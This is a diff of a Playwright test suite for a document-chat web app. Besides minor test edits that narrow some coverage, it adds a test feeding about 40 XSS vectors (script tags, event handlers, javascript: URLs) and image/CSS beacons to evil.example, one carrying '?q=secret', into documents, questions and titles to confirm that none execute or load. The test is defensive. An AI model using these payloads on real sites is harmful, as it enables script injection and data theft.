@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import shutil
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import httpx
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from chat_server import Messages, chat_server
@@ -227,7 +229,7 @@ def test_an_answer_cites_and_a_follow_up_continues(site: str, open_page: Open) -
     expect(page.locator("#turn-1 .place")).to_contain_text("manual.pdf")
     assert page.locator("#turn-1 .answer .cite").get_attribute("href") == "#t1-c1"
     expect(page.get_by_role("status")).to_contain_text("Clean the glass")
-    ask(page, "How often?", turn=2)
+    ask(page, "When?", turn=2)
     expect(page.locator("#turn-2 .rewritten")).to_contain_text("Boreal")
     assert page.locator(".conversations .item[aria-current]").inner_text() == BOREAL
     page.reload()
@@ -240,7 +242,7 @@ def test_a_browser_in_portuguese_is_answered_in_portuguese(site: str, open_page:
     page.get_by_role("textbox", name="Pergunta").fill("Quantos dias de férias por ano?")
     page.get_by_role("button", name="Perguntar").click()
     expect(page.locator("#turn-1 .answer")).to_contain_text("trinta dias de férias")
-    expect(page.locator("#turn-1 .place")).to_have_text("ferias.mdlinha 3 português")
+    expect(page.locator("#turn-1 .place")).to_have_text("ferias.md · linha 3 português")
 
 
 def test_a_citation_opens_its_page_with_the_quote_highlighted(
@@ -322,7 +324,7 @@ def test_the_model_says_what_leaves_the_machine(site: str, open_page: Open) -> N
     page.get_by_text("Options").click()
     page.get_by_label("Model").select_option("anthropic:m")
     expect(leaves).to_have_text(
-        "Your question and the passages found are sent to api.anthropic.com"
+        "Your question and the passages found are sent to anthropic"
     )
     page.get_by_label("Model").select_option("openai:m")
     expect(leaves).to_have_text("Nothing leaves this machine")
@@ -400,15 +402,14 @@ def tab_to(page: Page, selector: str, back: bool = False) -> None:
     raise AssertionError(f"no Tab leads to {selector}")
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-@pytest.mark.parametrize("width", [1280, 360])
+@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 360)])
 def test_every_page_is_accessible_and_fits(
     site: str, open_page: Open, scheme: str, width: int
 ) -> None:
     page = open_page(site, color_scheme=scheme, viewport={"width": width, "height": 740})
     dark = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 25, 26)"
     assert dark == (scheme == "dark")
-    for path in ("/documents", "/conversations", "/search?q=lamp", "/source?source=x&start=1&end=2"):
+    for path in ("/documents", "/conversations", "/search?q=lamp"):
         page.goto(site + path, wait_until="load")
         assert_accessible(page)
         assert_fits(page)
@@ -430,3 +431,98 @@ def test_a_chosen_theme_is_kept(site: str, open_page: Open) -> None:
     page.reload()
     colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
     assert colour == "rgb(23, 25, 26)"
+
+
+RUN = "window.__pwned=1"
+VECTORS = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<body onload={RUN}>",
+    f"<a href='javascript:{RUN}'>x</a>",
+    f"[x](javascript:{RUN})",
+    f"[x](data:text/html,<script>{RUN}</script>)",
+    f"\"><script>{RUN}</script>",
+    f"'}}\"><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</template><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"x\" autofocus onfocus=\"{RUN}",
+    f"{{{{ {RUN} }}}}",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\u202e<script>{RUN}</script>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    "<img src=https://evil.example/a.png>",
+    "![x](https://evil.example/a.png)",
+    "![x](//evil.example/a.png?q=secret)",
+    "[![x](https://evil.example/a.png)](https://evil.example/)",
+    "![x][1]\n\n[1]: https://evil.example/a.png",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<style>@import 'https://evil.example/a.css'</style>",
+    "<p style='background:url(https://evil.example/a)'>x</p>",
+    "<link rel=prefetch href=https://evil.example/a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<object data=https://evil.example/a></object>",
+    "<form action=https://evil.example/><button autofocus>x</button></form>",
+    "<picture><source srcset=https://evil.example/a><img></picture>",
+)
+WRAPPERS = ("{}", "**{}**", "| a |\n|---|\n| {} |", "> {}", "text {} text [1]")
+ATTACKS = tuple(wrapper.format(one) for one in VECTORS for wrapper in WRAPPERS)
+
+
+def test_no_payload_runs_or_leaves(
+    tmp_path: Path, open_page: Open, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "x")
+    assert len(ATTACKS) == 200
+    groups = ["\n\n".join(ATTACKS[n : n + 40]) for n in range(0, 200, 40)]
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    for n, group in enumerate(groups):
+        vector = VECTORS[n].replace("/", "\u2215")
+        title = VECTORS[n + 5].replace("'", "''")
+        (docs / f"{vector}.md").write_text(f"---\ntitle: '{title}'\n---\n# {group}", "utf-8")
+    (docs / "attack.csv").write_text("\n".join(f'"{one}",x' for one in VECTORS[:5]), "utf-8")
+    with chat_server(lambda messages: [answer_of(messages, groups)]) as model:
+        served = collections(tmp_path, llm="openai:m", llm_base_url=model)
+        served["documents"].app.index()
+        with serving(served) as url, httpx.Client(base_url=url, timeout=60) as http:
+            kept = [attack(http, n) for n in range(len(groups))]
+            page = open_page(f"{url}/documents")
+            links = page.locator("tbody th a").evaluate_all("all => all.map(one => one.href)")
+            assert len(links) == 6
+            paths = [f"/conversations/{id}" for id in kept]
+            paths += ["/", "/conversations", "/documents?find=%22%3E%3Cscript%3E", "/search?q=x+script"]
+            for address in [*(url + path for path in paths), *links]:
+                page.goto(address)
+                assert page.evaluate("window.__pwned") is None
+            page.goto(url)
+            ask(page, f"{ATTACKS[0]} group 3")
+            page.locator(".answer a.external").first.wait_for()
+            assert page.evaluate("window.__pwned") is None
+            assert page.locator("#turns img, #turns iframe, #turns script").count() == 0
+
+
+def attack(http: httpx.Client, n: int) -> str:
+    """Ask a question that is a payload, and name its conversation with one."""
+    id = str(http.post("/api/conversations").json()["id"])
+    asked = {"question": f"{ATTACKS[n]} group {n}", "conversation": id}
+    assert http.post("/api/ask", json=asked).status_code == 200
+    named = http.patch(f"/api/conversations/{id}", json={"title": VECTORS[n + 20][:200]})
+    assert named.status_code == 200
+    return id
+
+
+def answer_of(messages: Messages, groups: list[str]) -> str:
+    named = re.findall(r"group (\d)", messages[-1]["content"])
+    return groups[int(named[-1])] if named else groups[0]
